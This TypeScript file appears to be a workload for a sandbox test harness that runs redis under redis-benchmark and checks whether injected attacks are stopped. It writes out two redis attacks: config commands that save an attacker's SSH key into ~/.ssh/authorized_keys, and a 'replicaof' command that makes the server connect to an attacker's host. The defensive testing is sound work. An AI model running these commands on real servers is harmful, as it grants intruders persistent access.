// SPDX-License-Identifier: Apache-2.0
// redis as Debian builds it, as its own user, with an append-only file and snapshots, under redis-benchmark and redis-cli.
import { COMMON_ATTACKS, keyHarm, reachedListener } from "./lib/attacks.ts";
import type { Attack, FreshRun, Workload } from "./lib/workload.ts";

const REQUESTS = 10_000;
const USER = "redis";

function configuration(folder: string, port: number): string {
  return `
bind 127.0.0.1
port ${port}
daemonize yes
pidfile ${folder}/data/redis.pid
logfile ${folder}/data/redis.log
dir ${folder}/data
save 3600 1
appendonly yes
enable-protected-configs local
`;
}

function driver({ folder, site, inject }: FreshRun, port: number): string {
  return `
cli="redis-cli -p ${port}"
setpriv --reuid=${USER} --regid=${USER} --clear-groups redis-server ${folder}/redis.conf || exit 1
${site.health} up 127.0.0.1 ${port}
$cli set greeting hello
$cli bgrewriteaof
$cli bgsave schedule
${site.health} there ${folder}/data/dump.rdb
redis-benchmark -p ${port} -n ${REQUESTS} -c 10 -q -t ping,set,get,incr,lpush,lrange_100,mset >${folder}/benchmark.txt
$cli get greeting
$cli lpush list a b c
$cli --raw lrange list 0 -1
$cli eval 'return redis.call("incr", KEYS[1])' 1 counter
$cli info keyspace | grep keys=
cat ${folder}/data/redis.pid >/dev/null
${site.health}
${inject}
grep -c SET ${folder}/benchmark.txt
$cli shutdown save
${site.health} gone ${folder}/data/redis.pid
`;
}

/** The server saves its data where keys of ssh lie: what a server without a password is known for. */
const SAVES_KEYS: Attack = {
  policy: "kill",
  name: "redis itself writes ~/.ssh/authorized_keys",
  arrange: (run) => {
    run.write("home/.ssh/authorized_keys", "");
    run.give(run.home, USER);
  },
  inject: () => `
$cli config set rdbcompression no
$cli set key ssh-ed25519-of-an-attacker
$cli config set dir ~/.ssh
$cli config set dbfilename authorized_keys
$cli save`,
  harm: (run) => keyHarm(run, "ssh-ed25519-of-an-attacker"),
};

/** The server becomes the replica of a server that the attacker has. */
const REPLICA: Attack = {
  name: "redis itself connects to a new host",
  inject: ({ site }, { port, otherHost }) =>
    `$cli replicaof ${otherHost} ${port}; read -r -t 1.2 line <> <(exec sleep 3); ${site.health}`,
  harm: reachedListener,
};

export const redis: Workload = {
  name: "redis",
  label: `redis, redis-benchmark of 7 commands, ${REQUESTS.toLocaleString("en-US")} requests each`,
  needs: ["/usr/bin/redis-server", "/usr/bin/redis-benchmark", "/usr/bin/redis-cli"],
  command: async (run) => {
    const port = await run.port();
    run.write("redis.conf", configuration(run.folder, port));
    run.write("data/README", "data of redis\n");
    run.give(`${run.folder}/data`, USER);
    return { argv: ["/bin/bash", "-c", driver(run, port)] };
  },
  check: (_run, { status, stdout }) => {
    if (status !== 0) return `status ${status}`;
    return /^hello[\s\S]*^c\nb\na$[\s\S]*keys=[\s\S]*^2$/m.test(stdout)
      ? undefined
      : "wrong answers";
  },
  attacks: [...COMMON_ATTACKS, SAVES_KEYS, REPLICA],
};
